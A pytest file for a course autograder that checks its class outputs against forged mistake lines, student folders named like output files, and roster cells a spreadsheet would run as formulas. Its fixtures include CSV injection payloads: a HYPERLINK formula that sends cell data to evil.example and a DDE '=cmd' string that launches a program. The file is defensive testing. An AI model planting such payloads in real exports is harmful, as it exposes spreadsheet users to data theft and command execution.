"""Attacks on the class outputs of ``flowtrack grade``: forged mistake lines in misconceptions.csv
and the class report, student folders named like an output file, and roster cells a spreadsheet
would run as formulas.

The sandbox is a stand-in here (what is attacked is the grader's side: the text the child sends
back, the folder names, the roster); each stand-in sends what a sandboxed child can send.
"""

from __future__ import annotations

import csv
import io
import json
import shutil

import numpy as np
import pytest

from flowtrack_course.grading.engine.classrun import OUTPUT_FILES, RESERVED_NAMES
from flowtrack_course.grading.engine.spec import Outcome
from flowtrack_course.grading.export.lms import export_lms, read_roster
from grading_helpers import RecordingSandbox, get_exercise, run_grade_with, source_notebook

EX = get_exercise("ex05_cv_model")
FORGED = ("ValueError: \nmistake q-block-diagonal: forged\nmistake generic-sign: forged\n"
          "mistake no-such-id: forged")


class _MistakeSandbox(RecordingSandbox):
    """Answers as a student with the catalogued ``q-block-diagonal`` mistake (Q1d on the diagonal
    blocks), computed here as such a student's code would; ``cv_transition`` is right."""

    isolation = "stand-in"

    def run(self, calls, timeout):
        out = []
        for c in calls:
            if c.function == "cv_transition":
                (dt,) = c.args
                F = np.eye(4)
                F[0, 2] = F[1, 3] = dt
                out.append(Outcome(True, F.tolist()))
            else:
                dt, q = c.args
                g = np.array([dt**2 / 2.0, dt])
                out.append(Outcome(True, (q * np.kron(np.eye(2), np.outer(g, g))).tolist()))
        return out


class _ForgingSandbox(RecordingSandbox):
    """Every call fails with an exception whose message holds forged ``mistake <id>:`` lines (any
    text a child can send)."""

    def run(self, calls, timeout):
        return [Outcome(False, error=FORGED) for _ in calls]


class _Dispatch(RecordingSandbox):
    """The stand-in of each student: the sandbox is made per student and exercise from the cells,
    which name the student here (the notebooks differ by one comment line)."""

    def __new__(cls, cells, **kwargs):
        kind = _MistakeSandbox if "# mistaken" in cells[0][1] else _ForgingSandbox
        return kind(cells, **kwargs)


def _class(tmp_path, students: dict[str, str]):
    subs = tmp_path / "subs"
    nb = json.loads(source_notebook(EX).read_text())
    for name, tag in students.items():
        (subs / name).mkdir(parents=True)
        for c in nb["cells"]:
            if c["cell_type"] == "code" and c.get("metadata", {}).get("nbgrader", {}).get("solution"):
                c["source"] = f"# {tag}\n" + "".join(c["source"])
        (subs / name / EX.notebook).write_text(json.dumps(nb))
        nb = json.loads(source_notebook(EX).read_text())
    return subs


def test_forged_mistake_lines_never_reach_the_class_outputs(tmp_path):
    subs = _class(tmp_path, {"ann": "mistaken", "mallory": "forger", "mel": "forger"})
    out = tmp_path / "out"
    run = run_grade_with(subs, out, exercises=[EX], progress=False, sandbox_factory=_Dispatch)
    assert run.status == 0, run
    # the forger's public feedback shows their own text (it is theirs), the class outputs do not
    public = json.loads((out / "mallory" / "results.json").read_text())["tests"]
    assert any("mistake q-block-diagonal: forged" in t["output"] for t in public)
    rows = list(csv.DictReader((out / OUTPUT_FILES["misconceptions"]).open()))
    assert rows == [{"exercise": EX.id, "mistake_id": "q-block-diagonal", "count": "1", "students": "ann"}]
    report = (out / OUTPUT_FILES["class_report"]).read_text()
    assert "mallory" not in report and "generic-sign" not in report and "no-such-id" not in report
    assert "| ex05_cv_model | `q-block-diagonal` | 1 | 33 % |" in report


@pytest.mark.parametrize("lms", ["canvas", "moodle"])
def test_student_folders_named_like_any_output_leave_the_run_whole(tmp_path, lms):
    # the class report, the LMS files: a student folder of such a name would turn the grader's output
    # into a folder, and the run ended with a traceback once the students were graded
    names = ["ann", "class_report.md", "canvas.csv", "moodle.csv", "misconceptions.csv", "gradebook.db-wal"]
    assert set(names[1:]) <= RESERVED_NAMES
    subs = tmp_path / "subs"
    for name in names:
        (subs / name).mkdir(parents=True)
        shutil.copy(source_notebook(EX), subs / name / EX.notebook)
    out = tmp_path / "out"
    run = run_grade_with(subs, out, exercises=[EX], progress=False, sandbox_factory=RecordingSandbox, lms=lms)
    assert run.status == 1 and {r["student"] for r in run.rows if "error" in r} == set(names[1:])
    for role in ("grades", "gradebook", "misconceptions", "class_report", lms):
        assert (out / OUTPUT_FILES[role]).is_file(), role
    # every file the run wrote beside the student folders is reserved (the oracle: the folder itself)
    written = {p.name for p in out.iterdir() if p.is_file() and not p.name.startswith(".")}
    assert written <= RESERVED_NAMES, written - RESERVED_NAMES
    assert not any((out / n).is_dir() for n in names[1:])


HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "+1+2", "-2+3", "@SUM(A1:A9)", "\tTAB",
           "\rCR"]


@pytest.mark.parametrize("lms", ["canvas", "moodle"])
def test_roster_cells_that_look_like_formulas_are_escaped(tmp_path, lms):
    roster = tmp_path / "roster.csv"
    with roster.open("w", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["student", "first_name", "last_name", "email", "section", "sis_user_id",
                    "sis_login_id"])
        for i, bad in enumerate(HOSTILE):
            w.writerow([f"s{i}", bad, bad, f"=s{i}@example.org", bad, bad, bad])
    grades = tmp_path / "grades.csv"
    grades.write_text("student,ex05_cv_model,total,max\n"
                      + "".join(f"s{i},1,1,10\n" for i in range(len(HOSTILE))))
    assert read_roster(roster)["s0"].first_name == HOSTILE[0]
    out, _ = export_lms(lms, grades, tmp_path / f"{lms}.csv", roster=roster,
                        assignment="=cmd|' /C calc'!A0")
    rows = list(csv.reader(io.StringIO(out.read_text())))
    cells = [c for row in rows for c in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))], cells
    # the escaped cells still hold the roster's text after the quote
    assert any(c == "'" + HOSTILE[0] for c in cells) and any(c == "'=cmd|' /C calc'!A0" for c in cells)
    if lms == "moodle":  # (Canvas' file has no e-mail column)
        assert "'=s0@example.org" in cells


def test_the_report_reteaches_only_exercises_someone_handed_in():
    from types import SimpleNamespace

    from flowtrack_course.grading.export.classreport import class_report_markdown

    exs = [SimpleNamespace(id=f"ex{i}", title=f"t{i}", max_score=10.0) for i in (1, 2)]
    rows = [{"student": s, "exercises": {"ex1": 6.0, "ex2": 0.0}, "failures": {"ex1": "x"}} for s in "ab"]
    md = class_report_markdown(rows, exs, {})
    reteach = md.split("## What to reteach first", 1)[1]
    assert "ex1" in reteach and "ex2" not in reteach, reteach  # nobody submitted ex2
